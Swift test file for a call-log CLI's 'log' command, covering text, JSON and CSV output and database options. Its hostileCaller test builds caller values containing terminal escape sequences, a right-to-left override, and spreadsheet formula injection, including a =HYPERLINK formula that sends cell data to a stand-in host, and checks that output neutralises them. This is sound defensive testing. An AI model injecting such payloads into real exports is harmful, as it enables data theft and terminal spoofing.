import CallLog
import Foundation
import Glibc
import Support
import SystemPackage
import Telephony
import Testing

/// `announce log`, on a log written by the server's writer.
struct LogCommandTests {
    private static let start = Moment(milliseconds: 1_767_610_800_000)

    let folder: TemporaryFolder
    private let writer: CallLogWriter

    init() throws {
        folder = try TemporaryFolder()
        writer = CallLogWriter(folder.file("calls.sqlite"), settings: CallLogSettings(keep: nil))
        try folder.write(
            Array("public-url: https://phone.example.com\ntime-zone: Europe/Berlin\nnumbers: {}\n".utf8),
            to: "announce.yaml")
    }

    /// A call through a menu, and an old one.
    func fill(_ other: CallLogWriter? = nil) async {
        let writer = other ?? writer
        func record(_ event: LoggedEvent) { self.record(event, in: writer) }
        var event = LoggedEvent(at: Self.start, kind: .newCall, callID: "8F3A91")
        (event.from, event.to, event.direction) = ("+4915799912345", "+492111234567", .incoming)
        event.users = ["Müller, Jürgen \"JM\""]
        event.fields = [.init("event", "newCall"), .init("from", "4915799912345")]
        event.way = "number +492111234567 > menu main"
        event.answer = LoggedAnswer(
            .ask, words: "ask main-menu", menu: "main", sound: .init(file: "main-menu-0123.wav", prompt: "main-menu"))
        event.xml = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<Response/>\n"
        event.latency = 420
        record(event)
        let fetched = Self.start.adding(.milliseconds(300))
        writer.record { _ in
            .fetchBegan(
                FetchBeginning(
                    at: fetched, ticket: 1, file: "main-menu-0123.wav", size: 92_844, request: .bytes(from: 0)))
        }
        writer.record { _ in .fetchEnded(FetchEnd(at: fetched, ticket: 1, sent: 92_844)) }
        var pressed = LoggedEvent(at: Self.start.adding(.seconds(6)), kind: .dtmf, callID: "8F3A91")
        pressed.input = .keys("3")
        pressed.way = "main 3"
        pressed.answer = LoggedAnswer(
            .play, words: "play closed", sound: .init(file: "closed-0123.wav", prompt: "closed"))
        record(pressed)
        record(LoggedEvent(at: Self.start.adding(.seconds(12)), kind: .hangup, callID: "8F3A91"))

        var old = LoggedEvent(at: Self.start.adding(.seconds(-86_400)), kind: .newCall, callID: "old\u{1B}[2J")
        (old.from, old.to) = ("", "+4930555001")
        record(old)
        #expect(await writer.flush(within: .seconds(60)))
    }

    private func record(_ event: LoggedEvent, in other: CallLogWriter? = nil) {
        (other ?? writer).record { _ in .event(event) }
    }

    func log(_ arguments: String...) throws -> RunningProgram.Result {
        try RunningProgram(
            [Announce.path, "log", "--state", "."] + arguments, in: folder.path, input: .nothing
        ).wait()
    }

    @Test func oneLinePerCall() async throws {
        await fill()
        let result = try log()
        #expect(
            result.text == """
                2026-01-04 12:00:00  unknown > +4930555001  open  -    old\u{FFFD}[2J
                2026-01-05 12:00:00  +4915799912345 > +492111234567  missed  0:12  play closed  8F3A91

                """)
        #expect(result.status == 0 && result.errors == "")
        #expect(try log("--number", "0157 999").text.hasSuffix("  8F3A91\n"))
        #expect(try log("--number", "0157 999").text.filter { $0 == "\n" }.count == 1)
        #expect(try log("--since", "2026-01-05").text == log("--number", "1234567").text)
        #expect(try log("--since", "2026-01-05T12:00").text == log("--number", "1234567").text)
        #expect(try log("--since", "2026-01-05T12:00:01").text == "")
        #expect(try log("--since", "2h").text == "")
        #expect(try log("-n", "1").text == log("--number", "1234567").text)
        #expect(try log("-n", "0").text == "")
        #expect(try log("--last", "7", "--since", "2026-01-05").text == log("--number", "1234567").text)
        #expect(try log("--until", "4.1.2026").text == log("--number", "030555").text)
        #expect(try log("--until", "2026-01-05 12:00").text == log("--number", "030555").text)
        #expect(try log("--since", "2026-01-04", "--until", "2026-01-05").text == log().text)
    }

    @Test(
        "A log in a database reads as one in a file, named by --database or by the configuration",
        .enabled(if: PostgresServer.isInstalled, "postgresql is not installed"))
    func database() async throws {
        await fill()
        let server = try #require(PostgresServer.shared)
        let url = try server.database()
        #expect(try log("--database", url).errors.contains("has no call log"))
        let database = CallLogWriter(.database(url), settings: CallLogSettings(keep: nil))
        await fill(database)
        for arguments in [
            [], ["--json"], ["--csv"], ["--call", "8F3A91"], ["--call", "8F3A91", "--json"], ["-n", "1"],
        ] {
            let result = try RunningProgram(
                [Announce.path, "log", "--database", url] + arguments, in: folder.path, input: .nothing
            ).wait()
            let file = try RunningProgram(
                [Announce.path, "log", "--state", "."] + arguments, in: folder.path, input: .nothing
            ).wait()
            #expect(result.text == file.text && result.text.contains("8F3A91") && result.status == 0, "\(arguments)")
        }
        try folder.write(
            Array(
                "public-url: https://phone.example.com\ntime-zone: Europe/Berlin\nnumbers: {}\nlog: { database: \"\(url)\" }\n"
                    .utf8), to: "announce.yaml")
        let configured = try RunningProgram([Announce.path, "log"], in: folder.path, input: .nothing).wait()
        #expect(try configured.text == log().text && configured.status == 0)
        let secret = try log("--database", "postgresql://a:secret@localhost/x")
        #expect(secret.status == 64 && secret.errors.contains("PGPASSWORD") && !secret.errors.contains("a:secret"))
        let nowhere = try log("--database", "postgresql://a@127.0.0.1:1/x")
        #expect(nowhere.status == 1 && nowhere.errors.contains("cannot be reached"))
        await database.close(within: .seconds(10))
    }

    @Test func forMachines() async throws {
        await fill()
        struct Call: Decodable {
            var callId: String
            var from: String?
            var began: String
            var outcome: String
        }
        let calls: [Call] = try log("--json").json()
        #expect(calls.map(\.callId) == ["old\u{1B}[2J", "8F3A91"])
        #expect(calls.map(\.began) == ["2026-01-04T11:00:00.000Z", "2026-01-05T11:00:00.000Z"])
        #expect(try log("--json", "--since", "2h").text == "[]\n")

        let csv = try log("--csv").output
        let script = """
            import csv, sys
            rows = list(csv.DictReader(open(sys.argv[1], newline="", encoding="utf-8"), strict=True))
            print(len(rows), rows[1]["users"], rows[1]["ended"], rows[0]["from"] == "")
            """
        try folder.write(csv, to: "calls.csv")
        let read = try Tool.require("/usr/bin/python3", ["-c", script, folder.file("calls.csv").string])
        #expect(read.text == "2 Müller, Jürgen \"JM\" 2026-01-05T11:00:12.000Z True\n")
        #expect(String(decoding: csv, as: UTF8.self).unicodeScalars.filter { $0 == "\n" }.count == 3)
    }

    /// Numbers and names as a caller could choose them.
    private static let hostile = "\u{1B}]0;owned\u{7}\u{9B}2J\u{202E}gpj.exe"

    @Test(
        "neither a terminal nor a spreadsheet obeys a caller",
        arguments: [[], ["--csv"], ["--json"], ["--call", "H1"], ["--call", "H1", "--json"]])
    func hostileCaller(_ arguments: [String]) async throws {
        var event = LoggedEvent(at: Self.start, kind: .newCall, callID: "H1")
        (event.from, event.to, event.direction) = ("@SUM(A1)\(Self.hostile)", "+492111234567", .incoming)
        event.users = ["=HYPERLINK(\"http://192.0.2.1/?\"&A1)\(Self.hostile)"]
        event.fields = [.init("event", "newCall"), .init("user[]\(Self.hostile)", Self.hostile)]
        event.way = Self.hostile
        record(event)
        #expect(await writer.flush(within: .seconds(60)))
        let run = try RunningProgram(
            [Announce.path, "log", "--state", "."] + arguments, in: folder.path, input: .nothing
        ).wait()
        #expect(run.status == 0 && run.text.contains("H1"), "\(run.errors)")
        let steering = run.text.unicodeScalars.filter { $0.steersText && $0 != "\n" && $0 != "\r" }
        #expect(steering.isEmpty, "\(run.text.debugDescription)")
        if arguments == ["--csv"] {
            #expect(
                run.text.contains(",'@SUM") && run.text.contains(#","'=HYPERLINK(""http"#)
                    && run.text.contains(",+492111234567,"))
        }
        // JSON says the same in other signs.
        if arguments.last == "--json" { #expect(run.text.contains(#"\u202e"#) && run.text.contains(#"\u009b"#)) }
    }

    @Test func oneCall() async throws {
        await fill()
        #expect(
            try log("--call", "8F3A91").text == """
                2026-01-05 12:00:00  +4915799912345 > +492111234567  missed  0:12  play closed  8F3A91
                    rings at  Müller, Jürgen "JM"

                12:00:00.000  newCall, answered in 0.4 ms with status 200
                    way       number +492111234567 > menu main
                    answer    ask main-menu
                    fetch     main-menu-0123.wav: fetched completely 0.30 s after the answer, 92844 bytes
                    request   event=newCall
                              from=4915799912345
                    xml       <?xml version="1.0" encoding="UTF-8"?>
                              <Response/>

                12:00:06.000  dtmf 3, answered in 0.0 ms with status 200
                    way       main 3
                    answer    play closed
                    fetch     closed-0123.wav: never fetched

                12:00:12.000  hangup, answered in 0.0 ms with status 200

                """)
        let json = try log("--call", "8F3A91", "--json").text
        #expect(json.contains("\"keys\":\"3\""))
        #expect(json.contains("\"whole\":true"))
        let none = try log("--call", "unknown")
        #expect(none.status == 1)
        #expect(none.errors == "Error: The log has no call unknown. `announce log` lists the calls.\n")
    }

    @Test func following() async throws {
        let program = try RunningProgram(
            [Announce.path, "log", "--state", ".", "-f", "--json"], in: folder.path, input: .nothing)
        var number = 0
        try program.poll("first call") {
            number += 1
            var event = LoggedEvent(at: .now, kind: .newCall, callID: "live-\(number)")
            event.from = "+4930\(number)"
            record(event)
            return try program.outputSoFar().contains("live-")
        }
        record(LoggedEvent(at: .now, kind: .hangup, callID: "live-\(number)"))
        try program.poll("its end") {
            try program.outputSoFar().split(separator: "\n").contains {
                $0.contains("live-\(number)\"") && $0.contains("\"ended\"")
            }
        }
    }

    @Test func noLog() throws {
        let result = try RunningProgram(
            [Announce.path, "log", "--state", "nowhere"], in: folder.path, input: .nothing
        ).wait()
        #expect(result.status == 1)
        #expect(
            result.errors
                == "Error: nowhere/calls.sqlite does not exist. `announce serve` writes it; name the server's state folder with --state.\n"
        )
        #expect(!FileManager.default.fileExists(atPath: folder.file("nowhere").string))
        try folder.makeFolder("broken")
        try folder.write(Array("garbage".utf8), to: "broken/calls.sqlite")
        let broken = try RunningProgram(
            [Announce.path, "log", "--state", "broken"], in: folder.path, input: .nothing
        ).wait()
        #expect(broken.status == 1)
        #expect(broken.errors.contains("is not a call log, or damaged"))
    }

    @Test(
        arguments: [
            ["--since", "soon"], ["--until", "1h", "-f"], ["-n", "-1"], ["--since", "2026-02-30"], ["--json", "--csv"],
            ["--call", "x", "--follow"],
            ["--number", "abc"], ["--since", "99999999999h"],
        ])
    func wrongUsage(_ arguments: [String]) throws {
        let result = try RunningProgram([Announce.path, "log"] + arguments, in: folder.path, input: .nothing).wait()
        #expect(result.status == 64)
    }
}
